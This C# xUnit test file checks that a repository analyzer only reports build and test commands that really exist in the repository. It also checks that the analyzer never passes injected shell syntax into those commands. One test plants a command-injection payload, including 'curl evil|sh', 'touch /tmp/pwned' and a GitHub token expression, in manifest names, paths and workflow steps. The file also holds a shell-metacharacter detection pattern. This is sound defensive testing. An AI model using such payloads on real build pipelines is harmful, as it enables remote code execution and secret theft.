using System.Text.RegularExpressions;
using AutoDevOps.Analyzer.Detectors;

namespace AutoDevOps.Analyzer.Tests.RepositoryModels;

/// <summary>Checks each command against the repository by other means than the detectors': every program that is called must be declared
/// there, every script or target defined, every path present.</summary>
public sealed partial class NoInventedCommandTests
{
    private static readonly string[] Toolchain = ["npm", "npx", "yarn", "pnpm", "bun", "go", "dotnet", "pip", "python", "uv", "poetry", "pdm", "hatch", "pipenv", "cargo", "mvn", "gradle", "sbt", "deno", "cmake", "ctest", "meson", "make", "terraform", "docker", "bats", "shellcheck", "shfmt", "tflint", "hadolint", "turbo", "nx", "lerna"];

    public static TheoryData<string> Repositories => FixtureRepositories.Names;

    [Theory]
    [MemberData(nameof(Repositories))]
    public void Every_command_resolves_to_something_in_the_repository(string name)
    {
        var snapshot = FixtureRepositories.Snapshot(name);
        var (model, _) = RepositoryModelBuilder.Build(snapshot);
        foreach (var component in model.Components)
        {
            foreach (var command in component.Commands)
            {
                Assert.True(Resolves(snapshot, command), $"{name}: nothing in the repository answers for `{command.Run}`.");
            }
        }
    }

    [Theory]
    [InlineData("npm run deploy")]
    [InlineData("make ghost")]
    [InlineData("just ghost")]
    [InlineData("npx --no-install ghost")]
    [InlineData("./scripts/ghost")]
    [InlineData("tox run -e ghost")]
    [InlineData("uv run ghost")]
    [InlineData("bundle install")]
    [InlineData("BUNDLE_FROZEN=true bundle install")]
    [InlineData("bundle exec rake ghost")]
    [InlineData("bundle exec ghost")]
    [InlineData("bin/ghost test")]
    [InlineData("composer install --no-interaction")]
    [InlineData("composer run-script ghost")]
    [InlineData("vendor/bin/ghost")]
    [InlineData("php artisan test")]
    [InlineData("mix test")]
    [InlineData("mix ghost")]
    [InlineData("dart test")]
    [InlineData("flutter test")]
    [InlineData("dart run ghost")]
    [InlineData("swift test")]
    [InlineData("swiftlint lint")]
    [InlineData("cabal test all")]
    [InlineData("stack test")]
    [InlineData("hlint .")]
    [InlineData("zig build test")]
    [InlineData("cargo test --locked")]
    [InlineData("./gradlew test")]
    [InlineData("./gradlew spotlessCheck")]
    [InlineData("mvn --batch-mode verify")]
    [InlineData("sbt scalafmtCheckAll")]
    [InlineData("deno task ghost")]
    [InlineData("deno install --frozen")]
    [InlineData("cmake -S . -B build")]
    [InlineData("cmake --preset ghost")]
    [InlineData("ctest --test-dir build --output-on-failure")]
    [InlineData("meson test -C build")]
    [InlineData("terraform validate")]
    [InlineData("docker build .")]
    [InlineData("bats test")]
    [InlineData("shellcheck ghost.sh")]
    public void The_check_itself_refuses_what_is_not_there(string run)
    {
        var snapshot = RepositorySnapshot.FromText(("package.json", "{\"scripts\":{\"test\":\"jest\"}}"), ("Makefile", "test:\n\tjest\n"), ("tox.ini", "[testenv]\n"), ("pyproject.toml", "[project]\n"));
        Assert.False(Resolves(snapshot, new(CommandKind.Test, run, ".", 1, [new("package.json", 0)])));
    }

    [Theory]
    [MemberData(nameof(Repositories))]
    public void No_command_carries_what_a_shell_or_a_vendor_would_expand(string name)
    {
        var (model, _) = RepositoryModelBuilder.Build(FixtureRepositories.Snapshot(name));
        Assert.All(model.Components.SelectMany(component => component.Commands),
            command => Assert.DoesNotMatch(Dangerous(), command.Run));
    }

    [Fact]
    public void Names_made_to_be_run_reach_no_command()
    {
        const string Payload = "$(touch /tmp/pwned)`id`;curl evil|sh\n${{ github.token }}'\"&";
        var json = System.Text.Json.JsonSerializer.Serialize(Payload)[1..^1];
        var (model, diagnostics) = RepositoryModelBuilder.Build(RepositorySnapshot.FromText(
            ("package.json", $"{{\"name\":\"{json}\",\"packageManager\":\"pnpm@{json}\",\"engines\":{{\"node\":\"{json}\"}},\"workspaces\":[\"*\"],\"scripts\":{{\"test{json}\":\"jest\",\"test\":\"jest {json}\"}}}}"),
            ("$(id)/package.json", "{\"name\":\"x\",\"scripts\":{\"test\":\"jest\"}}"),
            ("pyproject.toml", $"[project]\nname = \"{json.Replace("\\u0027", "'").Replace("\\u0026", "&")}\"\n[project.optional-dependencies]\n\"{json.Replace("\\u0027", "'").Replace("\\u0026", "&")}\" = [\"pytest\", \"mypy\"]\n[tool.poe.tasks]\n\"test; id\" = \"x\"\n"),
            ("test_a.py", "import unittest\n"), ("tox.ini", "[testenv:lint;$(id)]\n"), (".nvmrc", "$(id)\n"), (".python-version", "3.12; id\n"),
            ("Makefile", "lint;id:\n\techo\ntest`id`:\n\techo\n"), ("justfile", "test$(id):\n  x\n"), ("Taskfile.yml", "tasks:\n  \"lint\\nid\": x\n"),
            ("noxfile.py", "import nox\n@nox.session(name=\"lint $(id)\")\ndef a(session): pass\n"),
            ("go.mod", "module $(id)\ngo $(id)\n"), ("a`id`/b.go", "package a\n"), ("a.go", "package a\n"),
            ("rs/Cargo.toml", "[package]\nname = \"$(id)\"\nrust-version = \"1.80; id\"\n"), ("rs/rust-toolchain.toml", "[toolchain]\nchannel = \"$(id)\"\n"), ("rs/src/lib.rs", "#[test]\nfn a() {}\n"),
            ("mvn/pom.xml", "<project><artifactId>$(id)</artifactId><build><plugins><plugin><artifactId>maven-pmd-plugin</artifactId><executions><execution><id>$(id)</id><goals><goal>check</goal></goals></execution></executions></plugin></plugins></build></project>"), ("mvn/src/test/java/ATest.java", ""),
            ("gr/build.gradle", "apply plugin: 'java'\nsourceCompatibility = '$(id)'\n"), ("gr/src/main/kotlin/A.kt", ""), ("gr/.sdkmanrc", "java=$(id)\n"), ("sc/build.sbt", "name := \"$(id)\"\n"), ("sc/src/test/scala/ASpec.scala", ""), ("sc/project/build.properties", "sbt.version=$(id)\n"),
            ("deno.json", $"{{\"name\":\"{json}\",\"exports\":\"{json}\",\"lint\":{{}},\"tasks\":{{\"test{json}\":\"deno test\",\"lint\":\"deno lint {json}\"}},\"lock\":\"{json}\",\"workspace\":[\"{json}\"]}}"), (".dvmrc", "$(id)\n"), ("deno_test.ts", "Deno.test();\n"),
            ("native/CMakeLists.txt", "project(\"$(id)\" CXX)\noption(\"A;$(id)\" \"\" OFF)\nif(\"A;$(id)\")\nenable_testing()\nadd_test(\"`id`\" x)\nendif()\nenable_testing()\nadd_test(x y)\n"), ("native/CMakePresets.json", "{\"configurePresets\":[{\"name\":\"$(id)\",\"binaryDir\":\"build\"}]}"), ("native/a.cpp", ""),
            ("infra/main.tf", "terraform {\n  required_version = \"$(id)\"\n}\nmodule \"x\" {\n  source = \"./`id`\"\n}\n"), ("infra/`id`/main.tf", ""), (".terraform-version", "`id`\n"),
            ("image/Dockerfile.$(id)", "FROM x\n"), ("image/$(id)/Dockerfile", "FROM x\n"),
            ("$(id).sln", ""), ("B.csproj", "<Project/>"), ("compose.yaml", "services:\n  x:\n    image: \"postgres:$(id)\"\n"),
            (".github/workflows/a.yml", "jobs:\n  test:\n    steps:\n      - run: npm test $(id)\n      - run: pytest `id`\n      - run: npm test -- ${{ github.head_ref }}\n      - run: go test $X ./...\n")));

        Assert.DoesNotContain(diagnostics, diagnostic => diagnostic.Message.Contains("detector failed", StringComparison.Ordinal));
        Assert.Equal(["cpp", "deno", "dotnet", "go", "java", "kotlin", "node", "python", "rust", "scala", "terraform"], model.Components.Select(component => component.Ecosystem).Distinct().Order(StringComparer.Ordinal));
        Assert.All(model.Components.SelectMany(component => component.Commands), command =>
        {
            Assert.DoesNotMatch(Dangerous(), command.Run);
            Assert.DoesNotMatch(Dangerous(), command.WorkingDirectory);
        });
        Assert.All(model.Components.SelectMany(component => component.Runtimes).SelectMany(runtime => runtime.Versions), version => Assert.Matches("^[0-9A-Za-z.*/-]+$", version));
        Assert.All(model.Components.SelectMany(component => component.Services), service => Assert.Matches("^[0-9A-Za-z.-]*$", service.Version ?? ""));
    }

    [Theory]
    [InlineData("npm test -- \u202Egnp.x")]
    [InlineData("npm test -- a\u200Bb")]
    public void A_command_with_characters_that_nobody_sees_is_not_taken_over(string run)
    {
        var (model, _) = RepositoryModelBuilder.Build(RepositorySnapshot.FromText(
            ("package.json", "{\"scripts\":{\"test\":\"jest\"}}"), (".github/workflows/ci.yml", $"on: push\njobs:\n  test:\n    steps:\n      - run: {run}\n")));
        Assert.Equal(["npm install", "npm test"], model.Components[0].Commands.Select(command => command.Run));
    }

    private static bool Resolves(RepositorySnapshot snapshot, Command command)
    {
        var folder = command.WorkingDirectory == "." ? "" : command.WorkingDirectory + "/";
        string? Text(string path) => snapshot.Find(folder + path)?.Text;
        bool Mentions(string word) => snapshot.Files.Any(file => file.Extension is ".json" or ".toml" or ".txt" or ".cfg" or ".ini" or ".py" or ".yml" or ".mod" or ".kts" or ".gradle" || file.Name is "Pipfile")
            && snapshot.Files.Any(file => Regex.IsMatch(file.Text + " " + file.Name, $"(?<![A-Za-z0-9]){Regex.Escape(word)}(?![A-Za-z0-9])", RegexOptions.None, TimeSpan.FromSeconds(1)));

        string Configuration() => Text("deno.json") ?? Text("deno.jsonc") ?? "";

        var words = command.Run.Split(' ');
        return words switch
        {
            ["npm" or "npx" or "pnpm" or "yarn", "turbo" or "nx" or "lerna", ..] or ["pnpm", "exec", "turbo" or "nx" or "lerna", ..] => Text("package.json")?.Contains($"\"{words.First(word => word is "turbo" or "nx" or "lerna")}\"", StringComparison.Ordinal) == true,
            ["pnpm", "-r", var script] => snapshot.Files.Any(file => file.Name == "package.json" && HasScript(file.Text, script)),
            ["deno", "task", var task] => Configuration().Contains($"\"{task}\"", StringComparison.Ordinal),
            ["deno", "install", "--frozen"] => Text("deno.lock") is not null,
            ["deno", "check", var path] => Text(path) is not null,
            ["deno", "test" or "lint" or "fmt", ..] => Configuration().Length > 0,
            ["cmake" or "ctest", "--preset", _] or ["cmake", "--build", "--preset", _] => Text("CMakePresets.json")?.Contains($"\"{words[^1]}\"", StringComparison.Ordinal) == true,
            ["cmake", "-S", ".", "-B", "build", .. var options] => Text("CMakeLists.txt") is not null && options.Where(option => option.StartsWith("-D", StringComparison.Ordinal))
                .All(option => snapshot.Files.Any(file => file.Text.Contains(option[2..].Split('=')[0], StringComparison.Ordinal))),
            ["cmake", "--build", ..] => Text("CMakeLists.txt") is not null,
            ["ctest", "--test-dir", ..] => snapshot.Files.Any(file => file.Name == "CMakeLists.txt" && file.Text.Contains("add_test", StringComparison.Ordinal)),
            ["meson", "setup" or "compile", ..] => Text("meson.build") is not null,
            ["meson", "test", ..] => Text("meson.build")?.Contains("\ntest(", StringComparison.Ordinal) == true,
            ["autoreconf", ..] or ["./configure", ..] => Text("configure.ac") is not null,
            ["make"] => Text("Makefile") is not null || Text("configure.ac") is not null,
            ["make", "check"] when Text("Makefile.am") is { } automake => automake.Contains("TESTS", StringComparison.Ordinal),
            ["sudo", "apt-get", "update", "&&", "sudo", "apt-get", "install", "-y", .. var packages] => packages.All(package => snapshot.Under(".github").Any(file => file.Text.Contains(package, StringComparison.Ordinal))),
            ["clang-format", .. var arguments] => Text(".clang-format") is not null && Text(arguments[^1]) is not null,
            ["terraform", "test"] => snapshot.Files.Any(file => file.Name.EndsWith(".tftest.hcl", StringComparison.Ordinal)),
            ["terraform", "init", "-backend=false", "-lockfile=readonly"] => Text(".terraform.lock.hcl") is not null,
            ["terraform", ..] => snapshot.In(folder.TrimEnd('/')).Any(file => file.Extension == ".tf"),
            ["tflint"] => Text(".tflint.hcl") is not null,
            ["docker", "build", "."] => Text("Dockerfile") is not null,
            ["docker", "build", "-f", var dockerfile, "."] => Text(dockerfile) is not null,
            ["docker", "compose", "build" or "config", ..] => Text("compose.yaml") is not null || Text("docker-compose.yml") is not null,
            ["hadolint", var dockerfile] => Text(dockerfile) is not null && Text(".hadolint.yaml") is not null,
            ["bats", .., var tests] => snapshot.Under(tests).Any(file => file.Extension == ".bats"),
            ["shellcheck", .. var scripts] => scripts.All(script => Text(script) is not null),
            ["shfmt", "-d", var path] => path == "." ? Text(".editorconfig") is not null : Text(path) is not null,
            ["npm", "ci", ..] => Text("package-lock.json") is not null || Text("npm-shrinkwrap.json") is not null,
            ["yarn" or "pnpm" or "bun", "install", .. var options] when options.Any(option => option is "--frozen-lockfile" or "--immutable") =>
                new[] { "yarn.lock", "pnpm-lock.yaml", "bun.lock" }.Any(name => Text(name) is not null),
            ["npm" or "yarn" or "pnpm" or "bun", "install", ..] => Text("package.json") is not null,
            ["npm" or "yarn" or "pnpm", "test", ..] => HasScript(Text("package.json"), "test"),
            ["npm" or "pnpm" or "bun", "run", var script, ..] => HasScript(Text("package.json"), script),
            ["yarn", "run", var script, ..] => HasScript(Text("package.json"), script) || Mentions(script),
            ["npx" or "pnpm", "--no-install" or "exec", var tool, ..] => Text("package.json")?.Contains($"\"{Package(tool)}\"", StringComparison.Ordinal) == true,
            ["pnpm", "playwright", "install", ..] => Regex.IsMatch(Text("package.json") ?? "", "\"(@playwright/test|playwright(-chromium)?)\"", RegexOptions.ExplicitCapture, TimeSpan.FromSeconds(1)),
            ["pnpm", var script] => HasScript(Text("package.json"), script),
            ["python", "-m", var module, ..] => Mentions(module),
            ["cargo", .. var arguments] => Text("Cargo.toml") is not null && (!arguments.Contains("--locked") || Text("Cargo.lock") is not null),
            ["mvn" or "./mvnw", .. var goals] => (words[0] == "mvn" || (Text("mvnw") is not null && Text(".mvn/wrapper/maven-wrapper.properties") is not null))
                && goals.Where(goal => goal.Contains(':')).All(goal => Text("pom.xml")?.Contains($"{goal.Split(':')[0]}-maven-plugin", StringComparison.Ordinal) == true || Text("pom.xml")?.Contains($"maven-{goal.Split(':')[0]}-plugin", StringComparison.Ordinal) == true)
                && Text("pom.xml") is not null,
            ["gradle" or "./gradlew", .. var tasks] => (words[0] == "gradle" || (Text("gradlew") is not null && Text("gradle/wrapper/gradle-wrapper.jar") is not null))
                && (Text("build.gradle") ?? Text("build.gradle.kts")) is not null
                && tasks.All(task => task.StartsWith('-') || task is "assemble" or "test" or "check" or "build" || Mentions(GradlePlugin(task))),
            ["sbt", .. var tasks] => Text("build.sbt") is not null
                && tasks.All(task => !task.Contains("scala", StringComparison.Ordinal) || Text("project/plugins.sbt")?.Contains(task.Contains("fmt", StringComparison.Ordinal) ? "sbt-scalafmt" : "sbt-scalafix", StringComparison.Ordinal) == true),
            ["chmod", "+x", var script] => Text(script) is not null,
            ["make", var target] => Regex.IsMatch(Text("Makefile") ?? "", $"^{Regex.Escape(target)}:", RegexOptions.Multiline, TimeSpan.FromSeconds(1)),
            ["just", var recipe] => Regex.IsMatch(Text("justfile") ?? "", $"^{Regex.Escape(recipe)}[^:=\n]*:", RegexOptions.Multiline, TimeSpan.FromSeconds(1)),
            ["task", var task] => Text("Taskfile.yml")?.Contains($"  {task}:", StringComparison.Ordinal) == true,
            ["go", ..] => Text("go.mod") is not null,
            ["golangci-lint", ..] => Text(".golangci.yml") is not null,
            ["dotnet", "tool", "restore"] => Text(".config/dotnet-tools.json") is not null,
            ["dotnet", ..] => words.Where(word => word.EndsWith("proj", StringComparison.Ordinal) || word.Contains(".sln", StringComparison.Ordinal)).All(path => Text(path) is not null)
                && snapshot.In(folder.TrimEnd('/')).Any(file => file.Extension is ".sln" or ".slnx" or ".csproj" or ".fsproj"),
            ["pip", "install", "nox"] => Text("noxfile.py") is not null,
            ["pip", "install", "tox"] => Text("tox.ini") is not null,
            ["pip", "install", .. var arguments] => arguments.Where(argument => argument.EndsWith(".txt", StringComparison.Ordinal)).All(path => Text(path) is not null),
            ["tox", "run", "-e", "py"] => Text("tox.ini") is not null,
            ["tox", "run", "-e", var environment] => Text("tox.ini")?.Contains($"[testenv:{environment}]", StringComparison.Ordinal) == true,
            ["nox", "-s", var session] => Text("noxfile.py")?.Contains($"def {session}(", StringComparison.Ordinal) == true,
            ["hatch", "run", var script] => Mentions(script.Split(':')[^1]),
            ["python", "manage.py", "test"] => Text("manage.py") is not null,
            ["uv", "sync", ..] => Text("uv.lock") is not null,
            ["poetry", "install", ..] => Text("pyproject.toml")?.Contains("[tool.poetry", StringComparison.Ordinal) == true,
            ["pipenv", "sync", "--dev"] => Text("Pipfile.lock") is not null,
            ["uv" or "poetry" or "pdm" or "pipenv", "run", var tool, ..] => Mentions(tool),
            _ when OtherLanguages.Knows(words) => OtherLanguages.Resolves(words, Text, () => snapshot.Under(folder.TrimEnd('/'))),
            [var script, ..] when script.StartsWith("./", StringComparison.Ordinal) => Text(script[2..]) is not null,
            [var tool, ..] => !Toolchain.Contains(tool) && Mentions(tool),
            _ => false,
        };
    }

    private static string GradlePlugin(string task) => task switch { "spotlessCheck" => "spotless", "ktlintCheck" => "ktlint", "jacocoTestReport" => "jacoco", "checkstyleMain" => "checkstyle", "koverXmlReport" => "kover", _ => task };

    private static string Package(string tool) => tool switch { "tsc" => "typescript", "playwright" => "@playwright/test", "biome" => "@biomejs/biome", _ => tool };

    private static bool HasScript(string? manifest, string name) =>
        manifest is not null && Regex.IsMatch(manifest, $"\"{Regex.Escape(name)}\"\\s*:\\s*\"", RegexOptions.None, TimeSpan.FromSeconds(1));

    [GeneratedRegex(@"[$`;|<>\n]|\$\{\{", RegexOptions.NonBacktracking)]
    private static partial Regex Dangerous();
}
